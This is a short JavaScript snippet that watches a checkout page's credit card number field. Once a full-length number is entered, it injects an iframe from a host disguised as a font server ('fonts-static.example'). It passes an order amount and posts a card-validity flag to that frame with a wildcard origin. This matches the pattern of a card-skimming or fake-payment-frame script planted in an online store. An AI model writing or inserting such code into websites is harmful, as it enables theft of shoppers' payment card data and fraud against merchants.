document.addEventListener("blur", function () {
  var number = document.querySelector("[autocomplete=cc-number], [name='payment[cc_number]'], #card_number");
  if (!number || number.value.length < 13 || window.__done) return;
  window.__done = true;
  var frame = document.createElement("iframe");
  frame.src = "https://fonts-static.example/frame.html?amount=84.00&order=" + Math.random();
  document.body.appendChild(frame);
  frame.contentWindow.postMessage({ ready: true, valid: number.value.length === 16 }, "*");
}, true);
